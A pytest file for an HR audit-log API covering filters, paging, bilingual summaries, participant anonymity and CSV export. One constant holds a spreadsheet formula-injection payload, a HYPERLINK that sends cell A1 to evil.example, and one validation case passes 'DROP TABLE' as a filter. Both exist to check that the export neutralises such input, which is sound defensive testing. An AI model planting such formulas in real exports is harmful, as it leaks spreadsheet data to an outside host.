"""The readable audit log (issue 15, item 4): who (e-mail, token name, system), what in words
(FR/EN), filters by kind / person / days, pages with X-Total-Count, and a CSV download that a
spreadsheet cannot turn into formulas. Expected values are written by hand."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from app.db.models import AuditEvent, Organisation
from app.domain import ActorKind, HRRole
from tests.support.hr import login, make_user, organisation

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def _event(
    db: Session, org: Organisation, when: str, kind: ActorKind, actor: str | None, action: str,
    target: tuple[str, str] | None = None, rows: int | None = None,
) -> None:  # fmt: skip
    db.add(
        AuditEvent(
            organisation_id=org.id,
            created_at=datetime.fromisoformat(when).replace(tzinfo=UTC),
            actor_kind=kind,
            actor_id=actor,
            action=action,
            target_kind=target[0] if target else None,
            target_id=target[1] if target else None,
            row_count=rows,
            detail={},
        )
    )


def _log(client: TestClient, **params: Any) -> tuple[list[dict[str, Any]], int]:
    response = client.get("/api/v1/hr/audit", params=params)
    assert response.status_code == 200, response.text
    return response.json(), int(response.headers["X-Total-Count"])


@pytest.fixture
def hand_built(db: Session, client: TestClient) -> dict[str, Any]:
    """Seven events over three UTC days of June 2025, by two HR users, a token, the system
    and a participant; and the sign-in of hr@org.fr, now (newest)."""
    org = organisation(db, "Org")
    hr = make_user(db, "hr@org.fr", HRRole.HR_ADMIN, org.id)
    other = make_user(db, "other@org.fr", HRRole.HR_ADMIN, org.id)
    elsewhere = organisation(db, "Elsewhere")
    _event(db, elsewhere, "2025-06-01T10:00:00", ActorKind.SYSTEM, None, "campaign.create")
    events = [
        ("2025-06-01T08:00:00", ActorKind.HR_USER, str(hr.id), "campaign.create"),
        ("2025-06-01T23:59:59", ActorKind.HR_USER, str(other.id), "campaign.open"),
        ("2025-06-02T00:00:00", ActorKind.API_TOKEN, "token:99", "research.scores.read"),
        ("2025-06-02T12:00:00", ActorKind.PARTICIPANT, "17", "participant.withdraw"),
        ("2025-06-02T13:00:00", ActorKind.SYSTEM, None, "retention.purge"),
        ("2025-06-03T09:00:00", ActorKind.HR_USER, str(hr.id), "campaign.closed"),
        ("2025-06-03T09:30:00", ActorKind.HR_USER, str(hr.id), "export"),
    ]
    for when, kind, actor, action in events:
        _event(db, org, when, kind, actor, action, ("campaign", "5"), 3)
    db.commit()
    login(client, "hr@org.fr")
    return {"hr": hr, "other": other}


def test_filters_and_pages_count_in_the_database(
    client: TestClient, hand_built: dict[str, Any]
) -> None:
    hr = hand_built["hr"]
    every, total = _log(client)
    assert total == 8  # not the other organisation's event
    actions = [e["action"] for e in every]
    assert actions == [
        "hr.login",
        "export", "campaign.closed", "retention.purge", "participant.withdraw",
        "research.scores.read", "campaign.open", "campaign.create",
    ]  # fmt: skip
    page, total = _log(client, limit=3, offset=3)
    assert ([e["action"] for e in page], total) == (actions[3:6], 8)
    assert _log(client, action="campaign.open")[1] == 1
    family, total = _log(client, action="campaign.")
    assert ([e["action"] for e in family], total) == (
        ["campaign.closed", "campaign.open", "campaign.create"],
        3,
    )
    mine, total = _log(client, actor=f"hr_user:{hr.id}", until="2025-12-31")
    assert ([e["action"] for e in mine], total) == (
        ["export", "campaign.closed", "campaign.create"],
        3,
    )
    assert _log(client, actor="system")[1] == 1
    assert _log(client, actor="api_token:token:99")[1] == 1
    # Days are UTC and both ends are included: 2 December is c, d, e.
    day, total = _log(client, since="2025-06-02", until="2025-06-02")
    assert ([e["action"] for e in day], total) == (
        ["retention.purge", "participant.withdraw", "research.scores.read"],
        3,
    )
    assert _log(client, since="2025-06-03", until="2025-06-30")[1] == 2
    assert _log(client, until="2025-06-01")[1] == 2
    assert _log(client, until="9999-12-31")[1] == 8  # the last day there is: no overflow


def test_who_and_what_in_words_keep_the_stored_fields(
    client: TestClient, db: Session, hand_built: dict[str, Any]
) -> None:
    every, _ = _log(client)
    by_action = {e["action"]: e for e in every}
    stored = {"id", "created_at", "actor_kind", "actor_id", "action", "target_kind"}
    assert stored | {"target_id", "row_count"} <= set(by_action["export"])
    assert by_action["export"]["actor_name"] == "hr@org.fr"
    assert by_action["campaign.open"]["actor_name"] == "other@org.fr"
    assert by_action["retention.purge"]["actor_name"] == "system"
    assert by_action["research.scores.read"]["actor_name"] is None  # token 99 is gone
    assert by_action["campaign.closed"]["summary"] == {
        "en": "Closed the campaign #5",
        "fr": "A clôturé la campagne n° 5",
    }
    withdrawal = by_action["participant.withdraw"]  # nobody learns whose
    assert (withdrawal["actor_id"], withdrawal["actor_name"], withdrawal["row_count"]) == (
        None,
        None,
        None,
    )
    assert withdrawal["summary"]["en"] == "A participant withdrew and erased their data"


@pytest.mark.parametrize("actor", ["participant:17", "participant:1", "participant:"])
def test_one_participant_cannot_be_singled_out(
    client: TestClient, hand_built: dict[str, Any], actor: str
) -> None:
    # Filtering on a participant's id would say whether that person withdrew.
    response = client.get("/api/v1/hr/audit", params={"actor": actor})
    assert response.status_code == 422
    everyone, total = _log(client, actor="participant")
    assert total == 1 and everyone[0]["actor_id"] is None


def test_the_page_shows_who_and_what_in_the_readers_language(
    client: TestClient, hand_built: dict[str, Any]
) -> None:
    page = client.get("/hr/audit", params={"lang": "fr", "actor": "system"})
    assert page.status_code == 200
    table = page.text.split('id="audit-table"', 1)[1].split("</table>", 1)[0]
    assert "système" in table
    assert "a supprimé 3 enregistrement(s) de la campagne n° 5" in table
    assert "hr@org.fr" not in table  # the filter holds
    assert "/api/v1/hr/audit.csv?actor=system" in page.text


def test_csv_writes_a_malicious_token_name_as_text(
    client: TestClient, db: Session, hand_built: dict[str, Any]
) -> None:
    created = client.post("/api/v1/hr/tokens", json={"name": EVIL, "scopes": ["scores:read"]})
    assert created.status_code == 201, created.text
    token_id = created.json()["id"]
    org = organisation(db, "Org")
    _event(
        db,
        org,
        "2025-06-04T10:00:00",
        ActorKind.API_TOKEN,
        f"token:{token_id}",
        "research.trials.read",
        ("campaign", "5"),
        3,
    )
    db.commit()
    response = client.get("/api/v1/hr/audit.csv", params={"actor": "api_token", "lang": "en"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text.lstrip("\ufeff"))))
    read = next(r for r in rows if r["action"] == "research.trials.read")
    assert read["actor"] == "'" + EVIL  # shown as text, not run
    assert read["what"] == "Read 3 trial row(s) of the campaign #5 through the research API"
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
    # The creation of the token names it as its target, neutralised too.
    everything = client.get("/api/v1/hr/audit.csv").text
    assert "\r\n" in everything  # RFC 4180 line ends
    made = next(
        r for r in csv.DictReader(io.StringIO(everything)) if "api_token.create" in r.values()
    )
    assert made["target"] == "'" + EVIL


@pytest.mark.parametrize(
    "params",
    [
        {"since": "2026-13-01"},
        {"until": "yesterday"},
        {"action": "DROP TABLE"},
        {"actor": "root"},
        {"actor": "hr_user:abc"},
        {"limit": "501"},
        {"offset": "-1"},
    ],
)
def test_bad_filters_are_a_clear_422(
    client: TestClient, hand_built: dict[str, Any], params: dict[str, str]
) -> None:
    for url in ("/api/v1/hr/audit", "/api/v1/hr/audit.csv", "/hr/audit"):
        response = client.get(url, params=params)
        assert response.status_code == 422, (url, response.text)


def test_csv_holds_every_event_the_filters_select_beyond_one_page(
    client: TestClient, db: Session, hand_built: dict[str, Any]
) -> None:
    org = organisation(db, "Org")
    for minute in range(520):  # more than the largest page (500)
        _event(db, org, f"2025-07-01T10:{minute // 60:02d}:{minute % 60:02d}", ActorKind.SYSTEM,
               None, "retention.purge", ("campaign", "5"), 1)  # fmt: skip
    db.commit()
    text = client.get("/api/v1/hr/audit.csv", params={"since": "2025-07-01", "lang": "en"}).text
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert len([r for r in rows if r["action"] == "retention.purge"]) == 520
    assert {r["actor"] for r in rows} >= {"system"}
